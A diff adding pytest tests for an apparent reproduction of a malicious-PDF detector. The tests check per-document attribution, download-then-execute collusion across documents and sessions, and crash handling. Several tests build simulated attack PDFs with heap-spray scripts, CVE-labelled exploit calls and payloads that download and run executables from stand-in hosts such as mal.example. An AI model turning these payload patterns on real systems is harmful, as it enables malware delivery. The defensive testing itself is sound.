@@ -1,0 +1,218 @@
+"""Multi-document scenarios: the paper's two challenges (§I).
+
+1. Interference: many docs open in one single-threaded reader, runtime
+   behaviour varies — the context-aware design keeps attribution clean.
+2. Pinpointing: when an alert fires, the detector names the malicious
+   document(s), not just "something is wrong".
+"""
+
+import pytest
+
+from repro.core.pipeline import ProtectionPipeline
+from repro.corpus import js_snippets as js
+from repro.pdf.builder import DocumentBuilder
+from repro.reader.exploits import CVE
+from repro.reader.payload import Payload
+
+import random
+
+
+@pytest.fixture()
+def pipe():
+    return ProtectionPipeline(seed=9001)
+
+
+def benign_memory_hog() -> bytes:
+    builder = DocumentBuilder()
+    builder.add_page("big benign")
+    builder.add_javascript(js.benign_report_script(900, 3072, random.Random(3)))
+    return builder.to_bytes()
+
+
+def malicious_sprayer(name_seed=1) -> bytes:
+    rng = random.Random(name_seed)
+    builder = DocumentBuilder()
+    builder.add_page("")
+    builder.add_javascript(
+        js.spray_script(
+            150,
+            Payload.dropper(f"C:\\Temp\\mal{name_seed}.exe"),
+            rng=rng,
+            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
+        )
+    )
+    return builder.to_bytes()
+
+
+class TestAttribution:
+    def test_malicious_pinpointed_among_benign(self, pipe):
+        session = pipe.session()
+        benign_docs = [
+            pipe.protect(benign_memory_hog(), f"benign{i}.pdf") for i in range(3)
+        ]
+        mal = pipe.protect(malicious_sprayer(), "evil.pdf")
+        for protected in benign_docs[:2]:
+            session.open(protected, fire_close=False)
+        report = session.open(mal, fire_close=False)
+        session.open(benign_docs[2], fire_close=False)
+
+        assert report.verdict.malicious
+        assert session.monitor.alerts
+        assert session.monitor.alerts[0].verdict.document == "evil.pdf"
+        for protected in benign_docs:
+            assert not session.verdict_for(protected).malicious
+        session.close()
+
+    def test_two_malicious_docs_both_convicted(self, pipe):
+        session = pipe.session()
+        m1 = pipe.protect(malicious_sprayer(1), "evil1.pdf")
+        m2 = pipe.protect(malicious_sprayer(2), "evil2.pdf")
+        session.open(m1, fire_close=False)
+        session.open(m2, fire_close=False)
+        assert session.verdict_for(m1).malicious
+        assert session.verdict_for(m2).malicious
+        names = {a.verdict.document for a in session.monitor.alerts}
+        assert names == {"evil1.pdf", "evil2.pdf"}
+        session.close()
+
+    def test_aggregate_memory_does_not_convict_benign(self, pipe):
+        """Many open benign docs push total reader memory way past the
+        100 MB threshold — but per-context deltas stay small, so no
+        false positive (the paper's Fig. 7/8 argument)."""
+        session = pipe.session()
+        protected = [
+            pipe.protect(benign_memory_hog(), f"hog{i}.pdf") for i in range(6)
+        ]
+        for doc in protected:
+            session.open(doc, fire_close=False)
+        total = session.reader.memory_counters().private_usage
+        assert total > 100 * 1024 * 1024  # context-free would alarm here
+        for doc in protected:
+            assert not session.verdict_for(doc).malicious
+        session.close()
+
+
+class TestCollusionScenario:
+    def test_split_download_and_execute(self, pipe):
+        """Two documents cooperate: one downloads, the other executes.
+        §III-E: the detector links them through the executable list and
+        convicts both."""
+        rng = random.Random(11)
+        downloader_code = js.spray_script(
+            150,
+            Payload(
+                [
+                    # download only; no execution
+                    __import__("repro.reader.payload", fromlist=["PayloadOp"]).PayloadOp(
+                        "url", "http://mal.example/two.exe>C:\\Temp\\two.exe"
+                    )
+                ]
+            ),
+            rng=rng,
+            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
+        )
+        executor_code = js.spray_script(
+            150,
+            Payload(
+                [
+                    __import__("repro.reader.payload", fromlist=["PayloadOp"]).PayloadOp(
+                        "exec", "C:\\Temp\\two.exe"
+                    )
+                ]
+            ),
+            rng=random.Random(12),
+            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, random.Random(12)),
+        )
+
+        def doc_with(code):
+            builder = DocumentBuilder()
+            builder.add_page("")
+            builder.pad_with_objects(40)  # keep static features quiet
+            builder.add_javascript(code)
+            return builder.to_bytes()
+
+        session = pipe.session()
+        downloader = pipe.protect(doc_with(downloader_code), "downloader.pdf")
+        executor = pipe.protect(doc_with(executor_code), "executor.pdf")
+        session.open(downloader, fire_close=False)
+        session.open(executor, fire_close=False)
+
+        v_downloader = session.verdict_for(downloader)
+        v_executor = session.verdict_for(executor)
+        assert v_executor.malicious
+        assert v_downloader.malicious
+        # Collusion handling: executor got a prepended drop, downloader
+        # an appended execution.
+        assert 11 in v_executor.features.fired()
+        assert 12 in v_downloader.features.fired()
+        session.close()
+
+
+class TestCrossSessionCollusion:
+    def test_executable_list_links_documents_across_sessions(self, pipe):
+        """§III-E: malscore dies with the reader session, but the
+        downloaded-executable list is persistent — a document executing
+        a file some *earlier session's* document downloaded is still
+        linked to it."""
+        from repro.reader.payload import PayloadOp
+
+        def doc_with(code):
+            builder = DocumentBuilder()
+            builder.add_page("")
+            builder.pad_with_objects(40)
+            builder.add_javascript(code)
+            return builder.to_bytes()
+
+        rng = random.Random(21)
+        downloader_code = js.spray_script(
+            150,
+            Payload([PayloadOp("url", "http://m.example/x2.exe>C:\\Temp\\x2.exe")]),
+            rng=rng,
+            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
+        )
+        rng2 = random.Random(22)
+        executor_code = js.spray_script(
+            150,
+            Payload([PayloadOp("exec", "C:\\Temp\\x2.exe")]),
+            rng=rng2,
+            exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng2),
+        )
+
+        # Session 1: the downloader runs and the session closes.
+        pipe.scan(doc_with(downloader_code), "downloader.pdf")
+        assert "c:\\temp\\x2.exe" in pipe.persistent_executables
+
+        # Session 2 (fresh monitor state): the executor is convicted
+        # with the prepended malware-dropping feature.
+        report = pipe.scan(doc_with(executor_code), "executor.pdf")
+        assert report.verdict.malicious
+        assert 11 in report.verdict.features.fired()
+
+
+class TestSessionLifecycle:
+    def test_malscore_volatile_executables_persistent(self, pipe):
+        session = pipe.session()
+        mal = pipe.protect(malicious_sprayer(5), "evil.pdf")
+        session.open(mal, fire_close=False)
+        assert session.monitor.states
+        executables = dict(session.monitor.downloaded_executables)
+        session.close()
+        assert not session.monitor.states
+        assert session.monitor.downloaded_executables == executables
+
+    def test_crash_closes_all_documents(self, pipe):
+        rng = random.Random(77)
+        builder = DocumentBuilder()
+        builder.add_page("")
+        builder.add_javascript(
+            js.spray_script(150, Payload.bad_jump(), rng=rng,
+                            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng))
+        )
+        crasher = pipe.protect(builder.to_bytes(), "crasher.pdf")
+        benign = pipe.protect(benign_memory_hog(), "b.pdf")
+        session = pipe.session()
+        session.open(benign, fire_close=False)
+        report = session.open(crasher, fire_close=False)
+        assert report.crashed
+        assert all(not h.open for h in session.reader.handles)
+        session.close()
